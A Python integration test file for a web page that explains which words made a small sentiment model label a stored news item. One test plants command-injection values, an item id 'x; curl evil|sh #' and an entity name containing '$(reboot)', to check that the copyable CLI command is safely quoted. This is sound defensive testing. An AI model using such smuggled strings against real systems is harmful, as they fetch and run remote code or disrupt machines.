"""Which words made the model call a stored item so, on the desk: with a tiny model of ours."""

import re
import shlex
from dataclasses import replace
from functools import partial
from html import unescape
from pathlib import Path
from urllib.parse import urlencode

import httpx
import pytest

from db.engine import Engine
from db.rows import EntityRow
from pipeline.settings import ModelSettings, Settings
from pipeline.web import services
from pipeline.web.desk import why
from pipeline.web.explaining import Explaining
from tests.integration.samples import NEGATIVE, SVB, item, store, towards
from tests.integration.web_client import API_KEY, web_client, web_settings
from tests.tiny_models import save_model

pytestmark = pytest.mark.integration

TITLE = "SVB Financial Group falls, fraud of <b>bank</b>"


@pytest.fixture
def settings(
    database_url: str, tmp_path: Path, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> Settings:
    """Settings with a tiny model, over one stored item; the page waits until it is answered."""
    bad = replace(
        item("a/b", entities=(towards(SVB, NEGATIVE),)),
        title=TITLE,
        body="The loss\nrises",
        source="wire",
    )
    store(engine, bad, replace(item("long"), body="loss " * why.MOST_CHARS))
    monkeypatch.setattr(services, "Explaining", partial(Explaining, wait_s=60))
    model = ModelSettings(path=str(save_model(tmp_path)), device="cpu")
    return web_settings(database_url=database_url).model_copy(update={"model": model})


async def page(settings: Settings, query: str) -> httpx.Response:
    async with web_client(settings, key="") as client:
        await client.post("/desk/login", data={"key": API_KEY})
        return await client.get(f"/desk/why?{query}")


def shaded_text(answer: httpx.Response) -> str:
    found = re.search(r'<p class="shaded text"[^>]*>(.*?)</p>', answer.text, re.DOTALL)
    assert found is not None
    return unescape(re.sub(r"</?mark[^>]*>", "", found[1]))


@pytest.mark.parametrize("query", ["item=a%2Fb", "item=a%2Fb&entity=us:SIVB&label=positive"])
async def test_every_word_of_an_item_is_there_and_the_strong_ones_are_shaded(
    settings: Settings, query: str
) -> None:
    answer = await page(settings, query)

    assert answer.status_code == 200
    assert shaded_text(answer) == f"{TITLE}\nThe loss\nrises"
    assert re.search(r'<mark class="(for|against)3"', answer.text)
    assert "<b>bank" not in answer.text
    assert "style=" not in answer.text
    assert ("Tone towards" in answer.text) == ("entity" in query)
    assert "data-live" not in answer.text
    assert "Stored by test; explained with" in answer.text


async def test_an_item_is_asked_why_it_was_called_what_it_was(settings: Settings) -> None:
    assert "Why negative?" in (await page(settings, "item=a%2Fb")).text


@pytest.mark.parametrize("query", ["item=none", "item=a%2Fb&entity=us:JPM"])
async def test_what_is_not_there_is_not_explained(settings: Settings, query: str) -> None:
    assert (await page(settings, query)).status_code == 404


async def test_a_model_that_cannot_be_loaded_is_told_on_the_page(settings: Settings) -> None:
    gone = settings.model.model_copy(update={"path": "/nowhere/model"})

    answer = await page(settings.model_copy(update={"model": gone}), "item=a%2Fb")

    assert answer.status_code == 200
    assert "There is no explanation:" in answer.text
    assert "cannot load the model" in answer.text
    assert "tapewatch explain --item a/b" in answer.text


async def test_a_long_text_and_a_service_without_explanations_say_so(settings: Settings) -> None:
    off = settings.web.model_copy(update={"explain": False})

    long = await page(settings, "item=long")
    without = await page(settings.model_copy(update={"web": off}), "item=a%2Fb")

    assert "too long" in long.text
    assert "TAPEWATCH_WEB__EXPLAIN" in without.text


async def test_a_command_to_copy_runs_nothing_that_a_foreign_id_or_name_holds(
    settings: Settings, engine: Engine
) -> None:
    odd = EntityRow("name:odd", 'O\'Dd $(reboot) "Inc"')
    item_id = "x; curl evil|sh #"
    store(engine, item(item_id, entities=(towards(odd, NEGATIVE),)))
    off = settings.web.model_copy(update={"explain": False})
    query = urlencode({"item": item_id, "entity": odd.id})

    answer = await page(settings.model_copy(update={"web": off}), query)

    found = re.search(r"<code>(.*?)</code>", answer.text)
    assert found is not None
    command = ["tapewatch", "explain", "--item", item_id, "--label", "negative"]
    assert shlex.split(unescape(found[1])) == [*command, "--entity", odd.name]


async def test_who_waits_is_told_and_the_page_renews_itself(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(services, "Explaining", partial(Explaining, wait_s=0))

    answer = await page(settings, "item=a%2Fb")

    assert 'data-live="1500"' in answer.text
    assert shaded_text(answer).split("\n")[0] == TITLE
